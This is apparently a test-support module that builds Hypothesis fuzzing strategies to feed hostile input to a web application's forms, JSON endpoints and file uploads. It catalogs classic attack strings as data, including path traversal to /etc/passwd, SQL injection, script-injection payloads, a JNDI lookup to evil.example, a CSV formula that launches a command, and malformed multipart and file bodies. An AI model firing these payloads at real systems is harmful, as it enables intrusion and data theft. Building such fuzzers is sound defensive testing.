"""Hostile values, as Hypothesis strategies: what an attacker types into a field, a query
string, a path segment or a JSON body.

Each strategy's simplest value (the one Hypothesis tries first and shrinks towards) is already
hostile: a NUL byte, not an empty string."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

NUL = "\x00"

# Text that has broken web applications: control characters (NUL first), odd Unicode, numbers a
# column cannot hold, dates that do not exist, path traversal, markup and format strings.
CATALOG: tuple[str, ...] = (
    NUL,
    "a\x00b",
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31m\x1f",
    "\x7f\x80\x85\x9f",
    "line\u2028para\u2029",
    "\ufeffbom",
    "\u202eevil\u202c",
    "\u200b\u200c\u200d\u2060",
    "e\u0301\u0301\u0301\u0301",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "𝕬𝖜𝖆𝖗𝖉𝖘",
    "Ǆǅǆ ﬃ ß ẞ İı",
    "１２３",
    "١٢٣",
    "²",
    "Ⅻ",
    "",
    "   ",
    "\t\r\n",
    "0",
    "-1",
    "-0",
    "1.5",
    "1e309",
    "-1e309",
    "1e-400",
    "nan",
    "NaN",
    "inf",
    "-Infinity",
    "0x10",
    "1_000",
    " 7 ",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999",
    "9" * 400,
    "0000-00-00",
    "2026-02-30",
    "9999-12-31T23:59:59",
    "-0001-01-01",
    "2026-13-45T25:61",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "..",
    ".",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example",
    "javascript:alert(1)",
    "http://evil.example/",
    "'; DROP TABLE users; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "%(x)s %s %d %n",
    "{0} {x!r}",
    "${jndi:ldap://evil.example/a}",
    "\\",
    "a@b",
    "@",
    "user@[127.0.0.1]",
    "a@ｅｘａｍｐｌｅ.com",
    "x" * 300 + "@example.com",
    "on",
    "true",
    "null",
    "[]",
    "{}",
)

# Characters repeated into long values: plain, multi-byte, control, right-to-left override.
_REPEATED = ("A", "я", NUL, "\u202e", "../", "🎉")
# Bodies take long values; an address stays within what a server in front accepts (gunicorn
# refuses a request line above 4 KB), so it gets shorter ones.
BODY_LENGTHS = (256, 4_097, 70_000)
URL_LENGTHS = (64, 300)

_any_text = st.text(st.characters(codec="utf-8"), min_size=1, max_size=30)


def hostile_text(lengths: tuple[int, ...] = BODY_LENGTHS) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(CATALOG),
        st.builds(lambda a, b: a + b, st.sampled_from(CATALOG), _any_text),
        _any_text,
        st.builds(lambda ch, n: ch * n, st.sampled_from(_REPEATED), st.sampled_from(lengths)),
    )


def url_text() -> st.SearchStrategy[str]:
    """Hostile text for a path segment or a query value."""
    return hostile_text(URL_LENGTHS)


# A field's value as a form posts it: one text, or the name repeated with several values (what
# a list-valued field expects, or a single field must not choke on).
def form_values(text: st.SearchStrategy[str] | None = None) -> st.SearchStrategy[list[str]]:
    text = hostile_text() if text is None else text
    return st.one_of(st.lists(text, min_size=1, max_size=1), st.lists(text, min_size=2,
                                                                      max_size=3))


# ---- JSON -------------------------------------------------------------------------------------

_NUMBERS = (0, -1, 2**31, -(2**31) - 1, 2**63, 2**64, 10**30, 1e308, -1e308, 5e-324, 0.1,
            float("nan"), float("inf"), float("-inf"))


def deep(levels: int, leaf: Any = 1) -> Any:
    value: Any = leaf
    for i in range(levels):
        value = [value] if i % 2 else {"a": value}
    return value


def hostile_json_value() -> st.SearchStrategy[Any]:
    """A value of any type where the schema expects another: wrong types, numbers no column
    holds, non-finite floats, hostile text, nesting within and beyond the limit."""
    scalars = st.one_of(
        hostile_text(),
        st.sampled_from(_NUMBERS),
        st.sampled_from([None, True, False]),
    )
    return st.one_of(
        scalars,
        st.lists(scalars, max_size=3),
        st.dictionaries(hostile_text(), scalars, max_size=3),
        st.sampled_from([deep(20), deep(40), [[[]]], {"": {"": {}}}]),
    )


def dumps(value: Any) -> bytes:
    """JSON as a careless client writes it: NaN and Infinity spelled out."""
    return json.dumps(value, allow_nan=True).encode()


# Bodies that are not what the content type says, or not JSON at all.
RAW_JSON_BODIES: tuple[bytes, ...] = (
    b"",
    b"null",
    b"[]",
    b'"text"',
    b"1e999999",
    b"{",
    b'{"a": }',
    b"\xff\xfe\x00{",
    b'{"a": "\xc0\xaf"}',
    b'{"a": "\\ud800"}',
    b'{"a": "\\u0000"}',
    b"[" * 1000 + b"]" * 1000,
    b'{"a":' * 40 + b"1" + b"}" * 40,
    b"{" + b'"k": 1, ' * 5000 + b'"k": 2}',
    b'{"a": 1}' + b" " * 10,
    b'{"a": 1} trailing',
)


# ---- multipart --------------------------------------------------------------------------------

BOUNDARY = "fuzzboundary"


def _part(name: str, value: bytes, filename: str | None = None,
          content_type: str | None = None) -> bytes:
    disposition = f'form-data; name="{name}"'
    if filename is not None:
        disposition += f'; filename="{filename}"'
    head = f"Content-Disposition: {disposition}\r\n"
    if content_type:
        head += f"Content-Type: {content_type}\r\n"
    return f"--{BOUNDARY}\r\n".encode() + head.encode("utf-8", "surrogateescape") + b"\r\n" \
        + value + b"\r\n"


def malformed_multipart(csrf: str, name: str) -> st.SearchStrategy[tuple[str, bytes]]:
    """``(content type, body)``: multipart bodies a browser never sends, with a valid CSRF
    token inside so the view gets as far as it can."""
    token = _part("csrf_token", csrf.encode())
    end = f"--{BOUNDARY}--\r\n".encode()
    typed = f"multipart/form-data; boundary={BOUNDARY}"
    cases = [
        ("multipart/form-data", token + end),  # no boundary parameter
        (typed, b"no boundary in here at all"),
        (typed, token + _part(name, b"unterminated")),  # no closing boundary
        (typed, token + f"--{BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\nx\r\n"
         .encode() + end),  # a part without a name
        (typed, token + f"--{BOUNDARY}\r\nX-Header: {'h' * 70_000}\r\n\r\nx\r\n".encode() + end),
        (typed, token + _part(name, b"x", filename="../../../../etc/passwd") + end),
        (typed, token + _part(name, b"x", filename="a\x00.pdf\x00.exe") + end),
        (typed, token + _part(name, b"x", filename="\u202eexe.pdf", content_type="../../x")
         + end),
        (typed, token + _part(name, b"\x00" * 1000, filename="") + end),
        (typed, token + _part(name, b"\xff\xfe\xfd invalid utf-8") + end),
        (typed, token + _part(name, b"x", content_type="multipart/mixed; boundary=inner") + end),
        (typed, token + b"".join(_part(f"{name}", b"v") for _ in range(200)) + end),
        (f"multipart/form-data; boundary={'b' * 5000}", token + end),
        ("multipart/form-data; boundary=\"\"", b"--\r\n\r\n--"),
        ("application/x-www-form-urlencoded",
         f"csrf_token={csrf}&{name}=%ff%fe%00&%ff=%c0%af&&&=&{name}".encode()),
        ("application/x-www-form-urlencoded; charset=utf-7", f"csrf_token={csrf}&{name}=+AGEA-"
         .encode()),
        ("text/plain", b"\x00\x01\x02"),
        ("application/json", b'{"csrf_token": "' + csrf.encode() + b'"}'),
    ]
    return st.sampled_from(cases)


# ---- files ------------------------------------------------------------------------------------

FILE_BODIES: tuple[bytes, ...] = (
    b"",
    b"\x00" * 512,
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << >>\n%%EOF",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 32,
    b"GIF89a<script>alert(1)</script>",
    b"PK\x03\x04" + b"\x00" * 26 + b"xl/workbook.xml",
    b"reference,impact,originality\nJRY-2026-00001,\x00,7\n",
    "=cmd|' /C calc'!A0,+1,-1,@SUM(A1)\n\ufeffa;b;c\r\n1;2\n".encode(),
    b"reference,impact\n" + b"x," * 5000 + b"\n",
    "\ufeffссылка,оценка\nJRY-2026-00001,99999999999999999999\n".encode("utf-16"),
    b"\xff\xfe\xfd\xfc invalid utf-8 \xc0\xaf",
)
_FILE_NAMES = ("../../../../etc/passwd", "a\x00.pdf", "\u202efdp.exe", "", ".", "..",
               "CON", "x" * 300 + ".pdf", "report.pdf", "scores.csv", "photo.png",
               "C:\\Windows\\system32\\cmd.exe", "имя файла.pdf")
_FILE_TYPES = (None, "application/pdf", "text/csv", "image/png", "text/html", "../../x",
               "application/octet-stream; charset=\x00")


def hostile_file() -> st.SearchStrategy[tuple[bytes, str, str | None]]:
    """``(content, file name, content type)`` of an upload."""
    return st.tuples(st.sampled_from(FILE_BODIES),
                     st.one_of(st.sampled_from(_FILE_NAMES), hostile_text()),
                     st.sampled_from(_FILE_TYPES))
